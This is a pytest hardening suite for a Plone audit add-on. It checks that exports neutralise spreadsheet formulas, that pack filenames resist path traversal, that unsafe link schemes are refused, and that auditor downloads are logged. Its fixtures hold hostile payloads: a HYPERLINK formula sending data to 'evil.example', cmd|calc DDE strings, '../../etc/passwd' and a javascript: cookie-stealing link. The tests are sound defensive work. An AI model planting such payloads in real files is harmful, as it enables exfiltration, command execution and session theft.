"""Hostile content in the exports and the audit pack, and every way an auditor reads
an evidence file being logged (hardening: formula injection, unsafe links, pack
names, auditor downloads)."""

from collective.nrlabel.audit.downloads import downloads
from collective.nrlabel.audit.pack import MANIFEST_FIELDS
from collective.nrlabel.exports import MATRIX_FIELDS
from datetime import date
from datetime import datetime
from nr_setup import criterion_at
from nr_setup import evidence_in_state
from nr_setup import PASSWORD
from nr_setup import pdf
from plone import api
from plone.namedfile.file import NamedBlobFile
from zoneinfo import ZoneInfo

import csv
import io
import openpyxl
import pytest
import re
import requests
import transaction
import zipfile


TODAY = date(2026, 6, 15)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
# Every start OWASP lists (=, +, -, @, tab, carriage return), one criterion each.
HOSTILE_TITLES = {
    "1.1.1": FORMULA,
    "1.1.2": "+1+cmd|' /C calc'!A0",
    "1.1.3": "-2+3",
    "1.2.1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "1.2.2": "\t=1+1",
    "1.2.3": "\r=1+1",
}


@pytest.fixture(autouse=True)
def today(clock):
    clock(TODAY)


def get(url, user="lead", **kwargs):
    return requests.get(url, auth=(user, PASSWORD), timeout=60, **kwargs)


def pack(functional_programme, user="lead"):
    response = get(f"{functional_programme.absolute_url()}/@@nr-audit-pack", user)
    assert response.status_code == 200
    return response, zipfile.ZipFile(io.BytesIO(response.content))


def manifest(archive):
    # The header is in the user's language: rows by the stable column names.
    text = archive.read("manifest.csv").decode()
    return list(csv.DictReader(io.StringIO(text), fieldnames=MANIFEST_FIELDS))[1:]


def png(name="capture.png"):
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (800, 600), "green").save(buffer, "PNG")
    return NamedBlobFile(data=buffer.getvalue(), contentType="image/png", filename=name)


# Defect 3: spreadsheet formula injection


@pytest.fixture
def hostile_criteria(functional_programme):
    for code, title in HOSTILE_TITLES.items():
        criterion = criterion_at(functional_programme, code)
        criterion.title = title
        criterion.reindexObject()
    evidence_in_state(
        criterion_at(functional_programme, "1.1.1"), "approved", title="Charte"
    )
    transaction.commit()
    return functional_programme


def test_matrix_csv_neutralises_formulas(hostile_criteria):
    response = get(f"{hostile_criteria.absolute_url()}/@@nr-matrix.csv")
    text = response.content.decode("utf-8-sig")
    rows = {
        row["code"]: row
        for row in csv.DictReader(
            io.StringIO(text), fieldnames=MATRIX_FIELDS, delimiter=";"
        )
    }
    for code, title in HOSTILE_TITLES.items():
        assert rows[code]["criterion"] == "'" + title, code
    # What the add-on computes itself is left as it is.
    assert rows["1.1.1"]["approved_evidence"] == "1"
    assert rows["1.1.1"]["readiness"] == "Couvert"  # green, for a French user


def test_matrix_xlsx_has_no_formula(hostile_criteria):
    content = get(f"{hostile_criteria.absolute_url()}/@@nr-matrix.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3  # summary, criteria, gaps
        for name in sheets:
            assert not re.search(r"<f[ >]", archive.read(name).decode()), name
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Critères"]
    header = list(MATRIX_FIELDS)
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    title = rows["1.1.1"][header.index("criterion")]
    assert title.data_type == "s"
    assert title.value == "'" + FORMULA
    approved = rows["1.1.1"][header.index("approved_evidence")]
    assert approved.value == 1 and approved.data_type == "n"


def test_pack_manifest_neutralises_formulas(functional_programme):
    criterion = criterion_at(functional_programme, "1.1.1")
    evidence_in_state(criterion, "approved", title=FORMULA, file=pdf("a.pdf"))
    evidence_in_state(criterion, "approved", title="-cmd", file=pdf("b.pdf"))
    transaction.commit()
    rows = manifest(pack(functional_programme)[1])
    assert sorted(row["title"] for row in rows) == sorted(["'" + FORMULA, "'-cmd"])
    assert all(int(row["size"]) > 0 for row in rows)


# Defect 14: pack names keep the whole title


def test_pack_names_keep_what_comes_before_a_slash(functional_programme):
    criterion = criterion_at(functional_programme, "1.1.1")
    for title in ("Rapport RSE 2024/2025", "Rapport RSE 2024/2025", "../../etc/passwd"):
        evidence_in_state(
            criterion, "approved", title=title, file=None, link="https://example.org"
        )
    transaction.commit()
    names = pack(functional_programme)[1].namelist()
    for name in names:
        assert not name.startswith("/") and ".." not in name.split("/")
    files = sorted(n.rsplit("/", 1)[1] for n in names if "/1.1.1 " in n)
    assert files == [
        "Rapport RSE 2024-2025 (2).url",
        "Rapport RSE 2024-2025.url",
        "etc-passwd.url",
    ]


# Defect 1 (pack): unsafe links stored before the schema refused them


def test_pack_never_writes_a_live_unsafe_link(functional_programme):
    criterion = criterion_at(functional_programme, "1.1.1")
    evidence_in_state(
        criterion, "approved", title="Safe", file=None, link="https://example.org/ok"
    )
    unsafe = evidence_in_state(
        criterion,
        "approved",
        title="<b>Piège</b>",
        file=None,
        link="https://example.org/was-safe",
    )
    unsafe.link = " JaVaScRiPt:alert(document.cookie)"  # stored before the fix
    transaction.commit()
    archive = pack(functional_programme)[1]
    names = archive.namelist()
    urls = [n for n in names if n.endswith(".url")]
    assert [n.rsplit("/", 1)[1] for n in urls] == ["Safe.url"]
    assert b"URL=https://example.org/ok" in archive.read(urls[0])
    [note] = [n for n in names if n.endswith(".txt")]
    assert "Piège" in note.rsplit("/", 1)[1]
    text = archive.read(note).decode()
    assert "Link refused (unsafe scheme)" in text
    assert "[InternetShortcut]" not in text
    index = archive.read("index.html").decode()
    assert "javascript:" not in index.lower()
    assert "<b>Piège</b>" not in index and "&lt;b&gt;Piège&lt;/b&gt;" in index
    assert {row["path"] for row in manifest(archive)} == set(urls + [note])


# Defect 7: every auditor read of an evidence file is logged


@pytest.fixture
def evidence(functional_programme):
    criterion = criterion_at(functional_programme, "1.1.1")
    items = {
        "pdf": evidence_in_state(criterion, "approved", title="Politique"),
        "png": evidence_in_state(
            criterion, "approved", title="Capture", file=png("capture.png")
        ),
    }
    transaction.commit()
    return items


def log_rows(functional_programme):
    transaction.abort()  # see what the server committed
    return downloads(functional_programme)


@pytest.mark.parametrize(
    "kind, path",
    [
        ("pdf", "@@download/file"),
        ("pdf", "@@display-file/file"),
        ("pdf", "@@images/file"),
        ("pdf", "@@edit/++widget++form.widgets.file/@@download"),
        ("png", "@@images/file"),
        ("png", "@@images/file/preview"),
    ],
)
def test_auditor_file_reads_are_logged(functional_programme, evidence, kind, path):
    item = evidence[kind]
    response = get(f"{item.absolute_url()}/{path}", "auditor")
    assert response.status_code == 200
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.content[:4] in (b"%PDF", b"\x89PNG")
    rows = log_rows(functional_programme)
    assert len(rows) == 1
    assert rows[0]["user"] == "auditor"
    assert rows[0]["path"] == "/".join(item.getPhysicalPath())
    assert rows[0]["filename"] == item.file.filename


def test_lead_reads_are_not_logged_but_get_nosniff(functional_programme, evidence):
    for path in ("@@download/file", "@@display-file/file", "@@images/file"):
        response = get(f"{evidence['pdf'].absolute_url()}/{path}", "lead")
        assert response.status_code == 200
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert log_rows(functional_programme) == []


def test_auditor_pack_download_is_logged(functional_programme, evidence):
    response, archive = pack(functional_programme, "auditor")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert len(manifest(archive)) == 2
    [row] = log_rows(functional_programme)
    assert row["user"] == "auditor"
    assert row["kind"] == "pack"
    assert row["files"] == 2
    assert row["path"] == "/".join(functional_programme.getPhysicalPath())
    page = get(f"{functional_programme.absolute_url()}/@@nr-auditor-downloads").text
    text = " ".join(re.sub(r"<[^>]+>", " ", page).replace("&#39;", "'").split())
    assert "Dossier d'audit, 2 fichiers (audit-pack-" in text  # a French site


def test_log_shows_times_in_the_site_time_zone(functional_programme, evidence):
    api.portal.set_registry_record("plone.portal_timezone", "Pacific/Auckland")
    transaction.commit()
    assert get(f"{evidence['pdf'].absolute_url()}/@@download/file", "auditor").ok
    [row] = log_rows(functional_programme)
    when = datetime.fromisoformat(row["when"])
    local = when.astimezone(ZoneInfo("Pacific/Auckland"))
    page = get(f"{functional_programme.absolute_url()}/@@nr-auditor-downloads").text
    # In the user's date format (the test site is French), in Auckland's time.
    assert local.strftime("%d/%m/%Y %H:%M") in page
    assert when.strftime("%d/%m/%Y %H:%M") not in page
    assert local.strftime("%Z") in page  # NZDT or NZST
    assert "(UTC)" not in page
